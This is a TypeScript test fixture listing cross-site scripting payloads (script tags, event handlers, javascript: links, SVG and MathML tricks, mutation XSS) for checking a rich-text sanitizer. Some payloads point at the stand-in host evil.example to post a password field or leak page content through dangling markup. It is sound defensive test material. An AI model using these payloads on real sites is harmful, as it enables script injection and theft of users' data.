/**
 * Known ways of getting script into a page through stored rich text, for the server's sanitizer test
 * over the API (tests/server/xss-corpus.test.ts) and for the page test in Chromium
 * (tests/e2e/xss-corpus.spec.ts). Every payload that could run calls `alert`, `confirm`, `prompt` or
 * `window.__xss.push(…)`; the page test traps all four, so a payload that runs is seen.
 *
 * No vector needs the network: addresses point at `https://evil.example` (a reserved name that never
 * resolves) or carry their payload inline.
 */

export interface XssVector {
  /** What the vector tries, in a few words (shown when it gets through). */
  readonly name: string;
  readonly html: string;
}

/** A call that records the vector when it runs, in the page test's trap. */
const trap = (tag: string): string => `window.__xss.push('${tag}')`;

export const xssCorpus: readonly XssVector[] = [
  // ── script elements ───────────────────────────────────────────────────────────────────────────
  { name: 'script tag', html: '<script>alert(1)</script>' },
  { name: 'script tag pushing to the trap', html: `<script>${trap('script')}</script>` },
  { name: 'script tag, mixed case', html: '<ScRiPt>alert(1)</sCrIpT>' },
  { name: 'script with src', html: '<script src="https://evil.example/x.js"></script>' },
  { name: 'script with data: src', html: '<script src="data:text/javascript,alert(1)"></script>' },
  { name: 'script split by a nested script', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'unclosed script', html: '<script>alert(1)' },
  { name: 'script with a slash attribute', html: '<script/xss src="data:,alert(1)"></script>' },
  { name: 'double open bracket', html: '<<script>alert(1);//<</script>' },
  { name: 'script inside a paragraph', html: `<p>正文<script>${trap('p-script')}</script></p>` },
  // ── event handlers ────────────────────────────────────────────────────────────────────────────
  { name: 'img onerror', html: '<img src=x onerror="alert(1)">' },
  { name: 'img onerror pushing to the trap', html: `<img src=x onerror="${trap('img')}">` },
  { name: 'img onerror, no quotes, mixed case', html: '<IMG SRC=x OnErRoR=alert(1)>' },
  { name: 'body onload', html: '<body onload=alert(1)>正文</body>' },
  {
    name: 'onclick on an allowed tag',
    html: '<p onclick="alert(1)" onmouseover=alert(2)>正文</p>',
  },
  { name: 'handler after a slash', html: '<p/onclick=alert(1)>正文</p>' },
  {
    name: 'handler on a link',
    html: '<a href="https://example.org/" onmouseover="alert(1)">链接</a>',
  },
  {
    name: 'autofocus with onfocus',
    html: `<input autofocus onfocus="${trap('input-autofocus')}">`,
  },
  { name: 'details ontoggle', html: `<details open ontoggle="${trap('details')}">x</details>` },
  { name: 'video source onerror', html: '<video><source onerror="alert(1)"></video>' },
  { name: 'audio onerror', html: '<audio src=x onerror=alert(1)></audio>' },
  { name: 'marquee onstart', html: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'handler with a newline before it', html: '<p\nonclick=alert(1)>正文</p>' },
  { name: 'handler with entity-encoded payload', html: '<img src=x onerror="&#97;lert(1)">' },
  // ── dangerous addresses ───────────────────────────────────────────────────────────────────────
  { name: 'javascript: link', html: '<a href="javascript:alert(1)">链接</a>' },
  { name: 'javascript: link, mixed case', html: '<a href="JaVaScRiPt:alert(1)">链接</a>' },
  {
    name: 'javascript: link with a tab entity',
    html: '<a href="java&#x09;script:alert(1)">链接</a>',
  },
  { name: 'javascript: link with a newline', html: '<a href="java\nscript:alert(1)">链接</a>' },
  {
    name: 'javascript: link, decimal entities',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">链接</a>',
  },
  {
    name: 'javascript: link, hex entities without semicolons',
    html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A alert(1)">链接</a>',
  },
  {
    name: 'javascript: link behind a control character',
    html: '<a href=" \u0001javascript:alert(1)">链接</a>',
  },
  { name: 'javascript: link, url-encoded colon', html: '<a href="javascript%3Aalert(1)">链接</a>' },
  { name: 'vbscript: link', html: '<a href="vbscript:msgbox(1)">链接</a>' },
  {
    name: 'javascript: link before a paragraph and inside a table',
    html: '<a href="javascript:alert(1)">链接</a><p>后文</p><table><tbody><tr><td><a href="javascript:alert(2)">格</a></td></tr></tbody></table>',
  },
  {
    name: 'data:text/html link',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">链接</a>',
  },
  { name: 'protocol-relative link', html: '<a href="//evil.example/">链接</a>' },
  {
    name: 'link with a javascript: formaction',
    html: '<button formaction="javascript:alert(1)">x</button>',
  },
  { name: 'img with a javascript: src', html: '<img src="javascript:alert(1)">' },
  // ── SVG and MathML ────────────────────────────────────────────────────────────────────────────
  { name: 'svg onload', html: '<svg onload=alert(1)><p>隐藏</p></svg>' },
  { name: 'svg script', html: `<svg><script>${trap('svg-script')}</script></svg>` },
  {
    name: 'svg script with xlink:href',
    html: '<svg><script xlink:href="data:,alert(1)"></script></svg>',
  },
  {
    name: 'svg animate setting an href',
    html: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
  },
  {
    name: 'svg use with a data: document',
    html: '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  },
  {
    name: 'svg foreignObject',
    html: '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  },
  { name: 'math link', html: '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>' },
  {
    name: 'math/style namespace confusion',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  {
    name: 'math maction',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  },
  // ── documents inside documents ────────────────────────────────────────────────────────────────
  { name: 'iframe', html: '<iframe src="https://evil.example/"></iframe>' },
  { name: 'iframe javascript: src', html: '<iframe src="javascript:alert(1)"></iframe>' },
  {
    name: 'iframe srcdoc',
    html: `<iframe srcdoc="<script>parent.${trap('srcdoc')}</script>"></iframe>`,
  },
  {
    name: 'object data',
    html: '<object data="data:text/html,<script>alert(1)</script>"></object>',
  },
  { name: 'embed src', html: '<embed src="data:text/html,<script>alert(1)</script>">' },
  { name: 'frameset', html: '<frameset><frame src="javascript:alert(1)"></frameset>' },
  // ── page-level elements ───────────────────────────────────────────────────────────────────────
  { name: 'base href', html: '<base href="https://evil.example/">' },
  {
    name: 'meta refresh to javascript:',
    html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  },
  {
    name: 'meta refresh to data:',
    html: '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
  },
  { name: 'link stylesheet', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  {
    name: 'link import',
    html: '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
  },
  // ── styles ────────────────────────────────────────────────────────────────────────────────────
  { name: 'style element', html: '<style>body{display:none}</style>' },
  {
    name: 'style element with @import',
    html: "<style>@import 'https://evil.example/x.css';</style>",
  },
  {
    name: 'style attribute with url(javascript:)',
    html: '<p style="background:url(javascript:alert(1))">正文</p>',
  },
  {
    name: 'style attribute with expression',
    html: '<p style="width:expression(alert(1))">正文</p>',
  },
  {
    name: 'style attribute covering the page',
    html: '<p style="position:fixed;inset:0;z-index:9999">正文</p>',
  },
  {
    name: 'style with -moz-binding',
    html: '<p style="-moz-binding:url(https://evil.example/x.xml#x)">正文</p>',
  },
  // ── forms ─────────────────────────────────────────────────────────────────────────────────────
  { name: 'form action', html: '<form action="javascript:alert(1)"><input type=submit></form>' },
  {
    name: 'form to a foreign address',
    html: '<form action="https://evil.example/" method="post"><input name="password"></form>',
  },
  { name: 'input image', html: '<input type="image" src=x onerror=alert(1)>' },
  // ── templates, noscript, raw text and mutation XSS ────────────────────────────────────────────
  { name: 'template content', html: '<template><img src=x onerror=alert(1)></template>' },
  {
    name: 'noscript closing early',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  { name: 'title closing early', html: '<title><img src=x onerror=alert(1)></title>' },
  {
    name: 'textarea closing early',
    html: '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  },
  { name: 'xmp raw text', html: '<xmp><img src=x onerror=alert(1)></xmp>' },
  { name: 'noembed raw text', html: '<noembed><img src=x onerror=alert(1)></noembed>' },
  { name: 'comment closing early', html: '<!--><img src=x onerror=alert(1)>-->' },
  {
    name: 'attribute closing a comment',
    html: '<p title="--><img src=x onerror=alert(1)>">正文</p>',
  },
  { name: 'CDATA in HTML', html: '<![CDATA[><img src=x onerror=alert(1)>]]>' },
  { name: 'processing instruction', html: '<?xml version="1.0"?><img src=x onerror=alert(1)>' },
  {
    name: 'mXSS via select and style',
    html: '<select><style></select><img src=x onerror=alert(1)></style></select>',
  },
  {
    name: 'mXSS via table and form',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  },
  {
    name: 'mXSS via svg and p',
    html: '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  },
  { name: 'backtick attribute', html: '<img src=`x` onerror=`alert(1)`>' },
  { name: 'null byte inside a tag name', html: '<scr\u0000ipt>alert(1)</scr\u0000ipt>' },
  {
    name: 'unicode-escaped tag (full width)',
    html: '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  },
  { name: 'html-escaped script stays text', html: '&lt;script&gt;alert(1)&lt;/script&gt;' },
  {
    name: 'table with a background',
    html: '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  },
  {
    name: 'td with a handler',
    html: '<table><tr><td onclick=alert(1) colspan="2">x</td></tr></table>',
  },
  { name: 'isindex', html: '<isindex type=image src=1 onerror=alert(1)>' },
  { name: 'dangling markup to steal the page', html: '<img src="https://evil.example/?' },
  {
    name: 'meta charset switch',
    html: '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  },
];

/**
 * Harmless formatting that must come back as it was sent (the allow-list keeps it), with the one
 * change the server always makes to a link: it opens in a new tab without handing over the window.
 */
export const formattingControl: XssVector = {
  name: 'harmless formatting',
  html: '<h2>小标题</h2><p>正文<strong>粗体</strong><em>斜体</em><u>下划线</u></p><ul><li>一项</li></ul><p><a href="https://example.org/">链接</a></p>',
};
